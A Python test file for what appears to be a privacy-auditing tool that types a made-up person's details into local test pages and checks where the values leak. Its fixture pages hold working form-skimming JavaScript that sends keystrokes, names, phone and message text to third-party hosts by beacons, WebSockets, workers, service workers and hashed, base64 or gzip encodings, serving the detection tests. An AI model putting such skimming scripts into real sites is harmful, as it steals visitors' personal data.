"""What people type is found again wherever a page puts it, and nowhere else."""

import base64
import hashlib
import os
import secrets
from collections.abc import Iterator
from contextlib import contextmanager
from functools import cache
from socketserver import StreamRequestHandler, ThreadingTCPServer
from threading import Thread

import pytest
from msgspec import json
from shop import HTML, Page, shop

from auditor.collect.site.browser import Browser
from auditor.collect.site.plan import Network
from auditor.collect.site.planning import Looking, plan_of
from auditor.collect.site.typing_in.person import person
from auditor.collect.site.visit import visit_sites
from auditor.evidence import FormTyped, LeakSeen, SiteEvidence, State
from auditor.testing import policy

SEED = "5eed"
SITE = "sites: [{id: www, url: 'https://example.org/', probes: "
BROWSER = Browser(path="chromium", kind="chromium", version="1")
SANDBOX = hasattr(os, "geteuid") and os.geteuid() != 0

FORM = """<!doctype html><title>Join</title><h1>Join us</h1><form action="/join" method="post">
<label>E-mail <input name="mail" type="email"></label>
<label>Vorname <input name="a1"></label> <input name="familyName" placeholder="Apellidos">
<label>Phone <input id="tel" autocomplete="tel"></label>
<label for="m">Nachricht</label><textarea id="m"></textarea>
<input type="search" name="q"> <input name="coupon"> <input type="checkbox" name="terms">
<input type="password" name="pass" autocomplete="current-password">
<input name="city" value="Berlin"> <button>Join</button></form>{}"""
LEAKS = """<script>
const post = (where, body) =>
  fetch(`http://${where}.third.localhost:PORT/x`, {method: "POST", mode: "no-cors", body});
const field = (name) => document.querySelector(`[name=${name}]`);
const pair = (byte) => byte.toString(16).padStart(2, "0");
const hex = (bytes) => [...new Uint8Array(bytes)].map(pair).join("");
field("mail").addEventListener("keyup", (e) =>
  navigator.sendBeacon("http://keys.third.localhost:PORT/x", new Blob([e.target.value])));
field("mail").addEventListener("blur", async (e) => {
  const text = e.target.value;
  const digest = await crypto.subtle.digest("SHA-256", new TextEncoder().encode(text));
  post("hashed", JSON.stringify({em: hex(digest)}));
  post("wrapped", btoa(JSON.stringify({em: text})));
  new Image().src = "http://image.third.localhost:PORT/p.gif?e=" + encodeURIComponent(text);
  document.cookie = "mail=" + encodeURIComponent(text);
  document.cookie = "brief=" + text; document.cookie = "brief=; max-age=0";
  localStorage.setItem("draft", JSON.stringify({text}));
  sessionStorage.draft = btoa(text);
  history.replaceState(0, "", "?mail=" + encodeURIComponent(text));
  fetch("/referred");
  worker.postMessage(text);
  new Image().src = "http://" + text.split("@")[0].replace(".", "-") + ".third.localhost:PORT/n";
});
const socket = new WebSocket("ws://socket.third.localhost:SOCKET/");
field("familyName").onblur = (e) => socket.send(JSON.stringify({name: e.target.value}));
field("a1").addEventListener("input", (e) => post("letters", "v=" + e.target.value));
tel.onchange = async () => {
  const packed = new Blob([tel.value]).stream().pipeThrough(new CompressionStream("gzip"));
  post("packed", await new Response(packed).blob());
};
m.onblur = () => post("last", m.value);
addEventListener("pagehide", () =>
  navigator.sendBeacon("http://bye.third.localhost:PORT/x", m.value));
const worker = new Worker(URL.createObjectURL(new Blob([`onmessage = (e) => fetch(
  "http://worker.third.localhost:PORT/x", {method: "POST", mode: "no-cors", body: e.data})`])));
</script>"""
CLEAN = """<script>
addEventListener("keyup", () => { window.keys = (window.keys ?? 0) + 1; });
document.querySelector("form").addEventListener("change", () =>
  fetch("http://count.third.localhost:PORT/x",
    {method: "POST", mode: "no-cors", body: "changed=1"}));
document.cookie = "visits=1"; localStorage.setItem("theme", "dark");
</script>"""
SERVED = """<script>
navigator.serviceWorker.register("/sw.js");
navigator.serviceWorker.ready.then((ready) =>
  document.querySelector("[name=mail]").onblur = (e) => ready.active.postMessage(e.target.value));
</script>"""
SERVICE = """onmessage = (e) => {
  fetch("http://plain.third.localhost:PORT/x", {method: "POST", mode: "no-cors", body: e.data});
  fetch("http://blob.third.localhost:PORT/x",
    {method: "POST", mode: "no-cors", body: new Blob([e.data])});
};"""
PAGES: dict[str, Page] = {
    "/leaky": (FORM.format(LEAKS), HTML, {"Referrer-Policy": "unsafe-url"}),
    "/clean": (FORM.format(CLEAN), HTML, {}),
    "/strict": (
        FORM.format(LEAKS),
        HTML,
        {"Content-Security-Policy": "connect-src 'self'; img-src 'self'"},
    ),
    "/none": ("<title>Nothing</title><p>Nothing to type into", HTML, {}),
    "/frame": (
        '<title>Frame</title><p>Pay<iframe src="http://pay.other.localhost:PORT/card">',
        HTML,
        {},
    ),
    "/sw.js": (SERVICE, "text/javascript", {}),
    "/served": (FORM.format(SERVED), HTML, {}),
    "/card": ('<input autocomplete="cc-number" maxlength=23>', HTML, {}),
    "/hidden": (
        "<title>Hidden</title><p>News<form hidden><input type=email name=e></form>",
        HTML,
        {},
    ),
    "/refusing": (
        "<title>Refuses</title><p>No<input type=email name=e oninput=\"this.value=''\">",
        HTML,
        {},
    ),
}


@contextmanager
def socket_server() -> Iterator[int]:
    """Open a server that takes WebSockets (RFC 6455 §1.3) and says nothing; yield its port."""
    guid = b"258EAFA5-E914-47DA-95CA-C5AB0DC85B11"

    class _Handler(StreamRequestHandler):
        def handle(self) -> None:
            lines = iter(self.rfile.readline, b"\r\n")
            key = next(
                v.strip()
                for k, _, v in (line.partition(b":") for line in lines)
                if k.lower() == b"sec-websocket-key"
            )
            accept = base64.b64encode(hashlib.sha1(key + guid).digest())  # noqa: S324 -- RFC 6455
            head = b"HTTP/1.1 101 Switching\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
            self.wfile.write(head + b"Sec-WebSocket-Accept: " + accept + b"\r\n\r\n")
            while self.rfile.read(1):
                pass

    server = ThreadingTCPServer(("127.0.0.1", 0), _Handler)
    server.daemon_threads = True
    thread = Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server.server_address[1]
    server.shutdown()
    server.server_close()
    thread.join()


@cache
def visited(path: str, *, types: bool = True) -> SiteEvidence:
    """Visit one page, as somebody who is made up from a known seed."""
    with (
        socket_server() as port,
        shop(_pages(port)) as opened,
        pytest.MonkeyPatch.context() as patch,
    ):
        patch.setattr(secrets, "token_hex", lambda _: SEED)
        more = f"probes: {{type_into_forms: {str(types).lower()}}}, consent: {{banner: none}}"
        crawl = f"crawl: {{start: ['{path}'], max_pages: 1}}"
        promised = policy(f"sites: [{{id: www, url: '{opened.url}', {more}, {crawl}}}]")
        return visit_sites(promised.sites, Looking(network=Network(sandbox=SANDBOX)))[0]


def _pages(port: int) -> dict[str, Page]:
    return {
        path: (text.replace("SOCKET", str(port)), kind, headers)
        for path, (text, kind, headers) in PAGES.items()
    }


def leaks(path: str) -> set[tuple[str, str, str, str, tuple[str, ...]]]:
    """Return what was found where: data, host, place, name and encoding."""
    return {
        (item.data, item.host.removesuffix(".localhost"), item.place, item.name, item.encoding)
        for item in visited(path).observations
        if isinstance(item, LeakSeen)
    }


def typed(path: str) -> FormTyped:
    """Return what was typed on the page."""
    (one,) = (item for item in visited(path).observations if isinstance(item, FormTyped))
    return one


def gaps(path: str) -> list[tuple[str, str]]:
    """Return the gaps of a visit: reason and what is needed."""
    return [(gap.reason.value, gap.needs) for gap in visited(path).gaps]


def test_every_way_out_is_seen() -> None:
    """Bodies, addresses, hosts, headers, WebSockets, workers and what is kept, wrapped too."""
    found = {leak for leak in leaks("/leaky") if leak[3] != "referer"}
    assert found == {
        ("email", "keys.third", "body", "", ()),
        ("email", "hashed.third", "body", "", ("sha256",)),
        ("email", "wrapped.third", "body", "", ("base64",)),
        ("email", "image.third", "url", "", ()),
        ("email", "*.third", "url", "", ()),
        ("email", "worker.third", "body", "", ()),
        ("email", "shop", "cookie", "mail", ()),
        ("email", "shop", "cookie", "brief", ()),
        ("email", "shop", "local_storage", "draft", ()),
        ("email", "shop", "session_storage", "draft", ("base64",)),
        ("given_name", "letters.third", "body", "", ()),
        ("family_name", "socket.third", "websocket", "", ()),
        ("phone", "packed.third", "body", "", ("gzip",)),
        ("message", "last.third", "body", "", ()),
        ("message", "bye.third", "body", "", ()),
    }
    assert ("email", "packed.third", "header", "referer", ()) in leaks("/leaky")


def test_keys_are_heard_while_they_are_pressed() -> None:
    """What goes out letter by letter goes before the field is left, and in full afterwards."""
    moments = {
        (item.host.partition(".")[0], item.moment)
        for item in visited("/leaky").observations
        if isinstance(item, LeakSeen) and item.place in {"body", "websocket"}
    }
    assert {
        ("keys", "typed"),
        ("letters", "typed"),
        ("hashed", "left"),
        ("bye", "left"),
    } <= moments
    assert not {("hashed", "typed"), ("bye", "typed")} & moments


def test_fields_that_are_left_alone() -> None:
    """Passwords of a login, searches, codes, and what is filled in already."""
    one = typed("/leaky")
    assert one.typed == ("email", "family_name", "given_name", "message", "phone")
    assert one.left == (
        "password:current-password:pass",
        "search::q",
        "text::city",
        "text::coupon",
    )


@pytest.mark.parametrize("path", ["/leaky", "/frame"])
def test_nothing_that_was_typed_is_in_the_evidence(path: str) -> None:
    """Not even where it was made a part of a host's name."""
    written = json.encode(visited(path)).decode().lower()
    for datum in person(SEED).values():
        for text in (datum.value.lower(), *datum.words, *filter(None, [datum.digits])):
            assert text not in written


def test_a_page_that_keeps_it_to_itself() -> None:
    """It listens to keys and calls others, and there is no leak and no gap."""
    assert typed("/clean").typed == typed("/leaky").typed
    assert leaks("/clean") == set()
    assert gaps("/clean") == []


def test_what_the_browser_did_not_send_is_no_leak() -> None:
    """The page's own policy keeps its scripts from talking to others."""
    assert {leak[1] for leak in leaks("/strict")} == {"shop"}


def test_nothing_to_type_into_is_told_too() -> None:
    """Otherwise nobody would know that somebody looked."""
    assert (typed("/none").typed, typed("/none").left, gaps("/none")) == ((), (), [])


def test_frames_of_others_are_typed_into() -> None:
    """As people do who pay."""
    assert typed("/frame").typed == ("card",)


@pytest.mark.parametrize(
    ("path", "reason", "needs"),
    [
        ("/hidden", "probe_not_armed", "a page or a journey on which email::e can be seen"),
        ("/refusing", "probe_not_armed", "fields that take what is typed: email::e did not"),
    ],
)
def test_what_could_not_be_typed_into_is_a_gap(path: str, reason: str, needs: str) -> None:
    """A form that nobody can see, and a field that throws away what comes."""
    assert typed(path).typed == ()
    assert gaps(path) == [(reason, needs)]


def test_a_service_worker() -> None:
    """What it sends is seen; a body of its that only it knows is a gap."""
    assert leaks("/served") == {("email", "plain.third", "body", "", ())}
    (gap,) = visited("/served").gaps
    assert (gap.what, gap.reason) == ("a body for blob.third.localhost", "not_in_evidence")


def test_off_nothing_is_typed() -> None:
    """The probe is off unless it is asked for."""
    seen = visited("/leaky", types=False).observations
    assert not [item for item in seen if isinstance(item, FormTyped | LeakSeen)]


def test_each_visit_makes_somebody_else_up() -> None:
    """And nobody, where the probe is off."""
    on, off = (policy(f"{SITE}{{type_into_forms: {on}}}}}]").sites[0] for on in ("true", "false"))
    plans = [plan_of(site, State.BEFORE, BROWSER, Looking()) for site in (on, on, off)]
    assert [plan.type_into_forms for plan in plans] == [True, True, False]
    assert len({plan.seed for plan in plans}) == 3
    assert plans[2].seed == ""
